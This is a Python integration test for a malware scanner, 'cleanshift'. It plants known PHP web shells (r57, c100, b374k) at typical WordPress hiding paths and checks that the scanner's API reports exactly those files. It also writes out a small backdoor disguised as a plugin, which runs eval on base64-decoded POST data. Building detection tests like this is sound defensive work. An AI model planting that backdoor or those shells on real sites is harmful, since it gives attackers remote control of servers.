"""The whole loop over real processes: register, enroll, scan, threats.

A real ``cleanshift serve`` and a real ``cleanshift agent run`` talk over
HTTP; the agent scans a real WordPress release into which known malware
was dropped, and the API must report exactly the dropped files.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from tests.conftest import CORPUS
from tests.integration.processes import (
    ProcessGroup,
    start_agent,
    start_api,
    unique_email,
    wait_for,
)

# Well-known shells from the public corpus, and where an attacker drops them.
CORPUS_DROPS = {
    "jvoisin/data/samples/classic/r57.php": "wp-content/uploads/2024/05/r57.php",
    "jvoisin/data/samples/classic/c100.php": "wp-includes/images/smilies/c100.php",
    "jvoisin/data/samples/classic/b374k.php": "wp-admin/css/colors/b374k.php",
    "jvoisin/data/samples/real/ice.php": "wp-cache.php",
}
# Written for these tests, so the loop is checked even without the corpus.
OWN_DROPS = {
    "wp-content/plugins/hello-helper/helper.php": (
        b"<?php\n/* Plugin Name: Hello Helper */\n"
        b"if (isset($_POST['k'])) { @eval(base64_decode($_POST['k'])); }\n"
    ),
}


@pytest.fixture
def processes(tmp_path: Path) -> Iterator[ProcessGroup]:
    group = ProcessGroup(tmp_path)
    yield group
    group.stop()


@pytest.fixture
def infected_web_root(wordpress_site: Path) -> tuple[Path, set[str]]:
    dropped = set()
    for relative, content in OWN_DROPS.items():
        target = wordpress_site / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content)
        dropped.add(str(target))
    malicious = CORPUS / "malicious"
    if malicious.is_dir():
        for source, relative in CORPUS_DROPS.items():
            target = wordpress_site / relative
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(malicious / source, target)
            dropped.add(str(target))
    return wordpress_site.parent, dropped


def test_agent_scan_reports_exactly_the_dropped_files(
    tmp_path: Path,
    database_url: str,
    processes: ProcessGroup,
    infected_web_root: tuple[Path, set[str]],
) -> None:
    web_root, dropped = infected_web_root
    url = start_api(processes, tmp_path / "data", database_url)
    api = httpx.Client(base_url=url, timeout=30)

    registered = api.post(
        "/v1/auth/register",
        json={"email": unique_email(), "password": "correct horse battery staple"},
    )
    assert registered.status_code == 201, registered.text
    api.headers["Authorization"] = f"Bearer {registered.json()['api_key']}"
    enrolled = api.post("/v1/servers/register", json={"name": "web-1"}).json()
    server_id = enrolled["server"]["id"]
    start_agent(processes, url, enrolled["agent_token"], web_root, tmp_path / "agent")

    def site_reported() -> list[dict[str, object]]:
        sites: list[dict[str, object]] = api.get(f"/v1/servers/{server_id}").json()[
            "sites"
        ]
        return sites

    [site] = wait_for(site_reported, 60, "the agent's first check-in", processes)
    assert site["cms"] == "wordpress"
    assert site["cms_version"] == "6.1.9"
    assert api.get("/v1/servers").json()["data"][0]["status"] == "online"

    triggered = api.post(
        "/scans/trigger", json={"server_id": server_id, "scan_mode": "full"}
    )
    assert triggered.status_code == 202
    scan_id = triggered.json()["scan_id"]

    def finished() -> dict[str, object] | None:
        scan: dict[str, object] = api.get(f"/v1/scans/{scan_id}").json()
        return scan if scan["status"] in ("completed", "failed") else None

    scan = wait_for(finished, 300, "the scan to finish", processes)
    assert scan["status"] == "completed", scan
    findings = scan["findings"]
    assert isinstance(findings, list)
    assert {finding["path"] for finding in findings} == dropped
    assert all(finding["site_id"] == site["id"] for finding in findings)
    progress = scan["progress"]
    assert isinstance(progress, dict)
    assert progress["files_scanned"] == progress["files_total"] > 2500

    threats = api.get("/v1/threats", params={"server_id": server_id}).json()["data"]
    assert {threat["path"] for threat in threats} == dropped
    assert {threat["status"] for threat in threats} == {"open"}
